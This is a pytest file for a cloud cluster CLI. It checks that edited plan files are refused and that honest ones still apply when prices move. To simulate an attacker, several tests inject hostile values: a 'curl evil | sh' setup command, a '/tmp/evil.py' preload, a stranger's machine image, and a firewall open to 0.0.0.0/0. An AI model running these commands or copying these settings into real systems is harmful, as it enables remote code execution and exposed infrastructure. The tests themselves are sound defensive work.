"""An edited plan file is refused, and an honest one is applied although prices have moved."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cli import fake_plugin
from cli.commands import SPEC, Run
from fake_provider import FakeCloud
from inline_snapshot import snapshot

from planapply.model.node import NodeConfig
from planapply.provider import Price

Edit = Callable[[dict[str, Any]], None]


def edit_configs(plan: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> None:
    """Change every configuration, and correct all digests as an attacker would."""
    digests = {}
    for key, config in list(plan["configs"].items()):
        change(config)
        digests[key] = NodeConfig.model_validate_json(json.dumps(config)).digest
        plan["configs"][digests[key]] = plan["configs"].pop(key)
    for item in plan["changes"]:
        item["after"] = digests.get(item["after"], item["after"])


def preload(plan: dict[str, Any]) -> None:
    edit_configs(plan, lambda config: config["options"].update(preload=["/tmp/evil.py"]))


def setup_command(plan: dict[str, Any]) -> None:
    edit_configs(plan, lambda config: config["environment"].update(setup=["curl evil | sh"]))


def image(plan: dict[str, Any]) -> None:
    edit_configs(plan, lambda config: config.update(image="ami-of-a-stranger"))


def config_tags(plan: dict[str, Any]) -> None:
    edit_configs(plan, lambda config: config.update(tags={"owner": "other"}))


def security(plan: dict[str, Any]) -> None:
    plan["security"] = "tls"


def settings(plan: dict[str, Any]) -> None:
    plan["settings"]["region"] = "venus"


def stray(plan: dict[str, Any]) -> None:
    change = {"name": "i-9999", "kind": "stray", "action": "destroy", "reason": "unknown_node"}
    plan["changes"].append(change | {"vm": "i-9999"})


def missing_node(plan: dict[str, Any]) -> None:
    del plan["changes"][-1]


def indexes(plan: dict[str, Any]) -> None:
    plan["next_index"] = {"cpu": 900}


def networks(plan: dict[str, Any]) -> None:
    plan["resources"] = {"firewall": {"kind": "group", "detail": {"allow_from": ["0.0.0.0/0"]}}}


def join_timeout(plan: dict[str, Any]) -> None:
    plan["join_timeout"] = 0.01


def unprotected(plan: dict[str, Any]) -> None:
    plan["protect"] = True


def without_request(plan: dict[str, Any]) -> None:
    preload(plan)
    plan["request"] = None


EDITS = [
    preload,
    setup_command,
    image,
    config_tags,
    security,
    settings,
    stray,
    missing_node,
    indexes,
    networks,
    join_timeout,
    unprotected,
    without_request,
]


@pytest.mark.parametrize("edit", EDITS, ids=lambda edit: edit.__name__)
def test_an_edited_plan_is_refused(run: Run, cloud: FakeCloud, edit: Edit) -> None:
    run("plan", "--out", "p")
    plan = json.loads(Path("p").read_bytes())
    edit(plan)
    Path("p").write_text(json.dumps(plan))
    result = run("apply", "p", "--no-wait")
    assert result.code == 1
    assert result.err.startswith("Error: the plan file is not the plan that would be made now: ")
    assert not cloud.machines


def test_the_error_says_what_differs(run: Run, cloud: FakeCloud) -> None:
    run("plan", "--out", "p")
    plan = json.loads(Path("p").read_bytes())
    preload(plan)
    security(plan)
    Path("p").write_text(json.dumps(plan))
    assert run("apply", "p").err == snapshot("""\
Error: the plan file is not the plan that would be made now: other changes of scheduler, cpu-[0-2];
another `security`
  What exists has changed since the plan was made, or the file was edited.
  To plan again: `planapply plan --out FILE`
""")


def test_a_plan_to_destroy_cannot_terminate_other_vms(run: Run, cloud: FakeCloud) -> None:
    run("apply", "--auto-approve", "--no-wait")
    run("plan", "--destroy", "--target", "cpu-0", "--out", "p")
    plan = json.loads(Path("p").read_bytes())
    plan["changes"][0]["vm"] = "i-of-a-stranger"
    Path("p").write_text(json.dumps(plan))
    assert run("apply", "p").code == 1
    assert len(cloud.live_vms()) == 4
    run("plan", "--destroy", "--target", "cpu-0", "--out", "q")
    assert run("apply", "q", "--no-retire").code == 0
    assert len(cloud.live_vms()) == 3


def test_what_exists_has_changed_since(run: Run, cloud: FakeCloud) -> None:
    run("apply", "--auto-approve", "--no-wait")
    run("plan", "--out", "p", "--set", "workers.cpu.count=4")
    cloud.end_vm("i-0001")
    result = run("apply", "p", "--no-wait")
    assert (result.code, "other changes of cpu-0" in result.err) == (1, True)


@pytest.mark.parametrize(
    "options",
    [
        [],
        ["--target", "cpu-0"],
        ["--replace", "cpu-[0-1]"],
        ["--no-refresh", "--replace", "cpu"],
        ["--refresh-only"],
        ["--destroy"],
    ],
)
def test_an_honest_plan_is_applied_although_prices_moved(
    run: Run, cloud: FakeCloud, options: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("planapply.toml").write_text(f'{SPEC}max_unavailable = "100%"\n')
    run("apply", "--auto-approve", "--no-wait")
    cloud.end_vm("i-0003")
    assert run("plan", "--out", "p", *options).code == 0
    monkeypatch.setattr(fake_plugin.Provider, "price", lambda *arguments: Price(7.0, "today"))
    assert run("apply", "p", "--no-wait").code == 0


def test_a_plan_of_an_older_version_has_no_options(run: Run, cloud: FakeCloud) -> None:
    run("plan", "--out", "p", "--target", "scheduler")
    plan = json.loads(Path("p").read_bytes())
    for key in ("request", "resources"):
        del plan[key]
    Path("p").write_text(json.dumps(plan))
    assert run("apply", "p", "--no-wait").code == 0
    assert [vm.name for vm in cloud.live_vms()] == ["scheduler"]


@pytest.mark.parametrize(
    "option",
    [
        "workers.cpu.options.preload='/tmp/evil.py'",
        "cluster.security='none'",
        "environment.setup=['curl evil | sh']",
        "provider.region='venus'",
        "defaults.image='ami-0'",
        'workers."cpu".class="evil.Worker"',
        "scheduler={ options = { preload = '/tmp/evil.py' } }",
        "cluster.protect=false",
    ],
)
def test_an_option_that_can_run_code_must_be_repeated(
    run: Run, cloud: FakeCloud, option: str
) -> None:
    saved = run("plan", "--out", "p", "--set", option)
    assert saved.code == 0
    refused = run("apply", "p", "--no-wait")
    assert refused.code == 1
    assert refused.err.startswith("Error: cannot take all options from the plan file: they set `")
    assert option.partition("=")[2] not in refused.err  # ready to paste, and from the file
    assert not cloud.machines
    assert "apply p --set" in saved.err
    assert run("apply", "p", "--no-wait", "--set", option).code == 0
    assert len(cloud.live_vms()) == 4


def test_harmless_options_are_taken_from_the_plan(run: Run, cloud: FakeCloud) -> None:
    options = ["workers.cpu.count=1", "scheduler.size='large'", "cluster.ttl='1 h'"]
    saved = run("plan", "--out", "p", *(w for option in options for w in ("--set", option)))
    assert saved.err.endswith("run `planapply apply p`.\n")
    assert run("apply", "p", "--no-wait").code == 0
    assert [vm.size for vm in cloud.live_vms()] == ["large", "large"]


def test_changed_options_change_the_spec(run: Run, cloud: FakeCloud) -> None:
    run("plan", "--out", "p", "--set", "workers.cpu.count=1")
    plan = json.loads(Path("p").read_bytes())
    plan["overrides"] = ["workers.cpu.count=9"]
    Path("p").write_text(json.dumps(plan))
    assert "the plan file is stale: the spec has changed" in run("apply", "p").err


def test_pins_that_cannot_be_checked_must_be_those_of_today(
    run: Run, cloud: FakeCloud, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A provider without `check_pins`: a plan is stale when the provider would choose otherwise."""
    current = {"image": "image-1"}
    monkeypatch.setattr(
        fake_plugin.Provider, "pins", lambda self, config: dict(current), raising=False
    )
    Path("planapply.toml").write_text(SPEC)
    run("plan", "--out", "p")
    plan = json.loads(Path("p").read_bytes())
    plan["pins"]["defaults"]["small"] = {"image": "image-of-a-stranger"}
    Path("q").write_text(json.dumps(plan))
    assert run("apply", "q").err == snapshot("""\
Error: cannot apply the plan file: the provider would choose another size or image now
  The file was changed after it was saved, or is too old.
  To plan again: `planapply plan --out FILE`
""")
    assert run("apply", "p", "--no-wait").code == 0
    assert {vm.image for vm in cloud.live_vms()} == {"image-1"}
